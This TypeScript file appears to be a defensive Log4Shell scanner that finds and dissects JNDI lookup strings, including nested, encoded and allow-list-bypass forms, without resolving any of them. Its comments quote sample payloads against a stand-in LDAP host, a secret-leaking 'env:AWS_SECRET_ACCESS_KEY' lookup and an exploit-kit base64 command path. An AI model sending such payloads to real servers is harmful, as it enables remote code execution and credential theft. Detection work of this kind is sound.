import { mayHoldLookup, readings } from './decode.ts'
import { jndiLookupsIn } from './resolve.ts'

/** One JNDI lookup that a Log4j of the year 2021 would have made. Nobody here makes it. */
export interface JndiLookup {
  raw: string
  /** Without its disguises: `${jndi:ldap://x.example:1389/a}`. */
  resolved: string
  /** `ldap`, `ldaps`, `rmi`, `dns`, `iiop`, `nis`, `corba`, `http` …; empty when the target is no URL. */
  scheme: string
  /** Who would have been asked; behind a `#` where one is used to get round the allow-list of 2.15 (CVE-2021-45046). */
  host: string
  port: number | undefined
  path: string
  /** A command that the path carries as base64, for the servers of common exploit kits. */
  command: string | undefined
  /** Names of lookups whose values the target would have told: `env:AWS_SECRET_ACCESS_KEY`, `hostName`. */
  asksFor: string[]
  cves: string[]
}

/** Characters of a text that are looked at. */
const LOOKED_AT = 64 * 1024
const MOST_LOOKUPS = 16
const LONGEST_NOTED = 2_048
/** Characters of a target that are taken apart: many lookups of one text may each reach to its end. */
const LONGEST_READ = 8_192

/** Finds the JNDI lookups of a text in every nested and encoded form, each target once. Bounded in time by the first 64 KiB of a text. */
export function findJndiLookups(text: string): JndiLookup[] {
  const head = text.slice(0, LOOKED_AT)
  if (!mayHoldLookup(head)) return []
  const found = new Map<string, JndiLookup>()
  for (const reading of readings(head)) {
    for (const { raw, target } of jndiLookupsIn(reading)) {
      if (found.size < MOST_LOOKUPS && target !== '' && !found.has(target)) found.set(target, lookupOf(raw, target))
    }
  }
  return [...found.values()]
}

function lookupOf(raw: string, whole: string): JndiLookup {
  const target = whole.slice(0, LONGEST_READ)
  const [, scheme = '', authority = '', path = ''] =
    /^\s{0,8}([A-Za-z][A-Za-z0-9+.-]{0,15}):\/{0,4}([^/?\s]{0,512})([^\s]{0,2048})/.exec(target) ?? []
  const asksFor = [...new Set([...target.matchAll(/\$\{([A-Za-z0-9]{1,16}(?::[\w.-]{1,64})?)\}?/g)].map(([, name]) => name as string))]
  const behindHash = authority.slice(authority.lastIndexOf('#') + 1)
  const [, host = behindHash, port] = /^(.*?)(?::(\d{1,5}))?$/.exec(behindHash) ?? []
  const isBypass = authority.includes('#') || asksFor.some((name) => /^ctx/i.test(name))
  return {
    raw: raw.slice(0, LONGEST_NOTED),
    resolved: `\${jndi:${target.slice(0, LONGEST_NOTED)}}`,
    scheme: scheme.toLowerCase(),
    host: host.replace(/^.*@/, ''),
    port: port === undefined ? undefined : Number(port),
    path: path.slice(0, LONGEST_NOTED),
    command: commandIn(path),
    asksFor,
    cves: isBypass ? ['CVE-2021-44228', 'CVE-2021-45046'] : ['CVE-2021-44228'],
  }
}

/** `/Basic/Command/Base64/Y3VybC4uLg==`, as JNDIExploit and its kin serve it. */
function commandIn(path: string): string | undefined {
  const [, encoded] = /\/base64\/([A-Za-z0-9+/_=-]{4,2000})/i.exec(path) ?? []
  if (encoded === undefined) return undefined
  const text = Buffer.from(encoded, 'base64').toString('utf8')
  return /^[\x09\x0a\x0d\x20-\x7e]{3,}$/.test(text) ? text : undefined
}
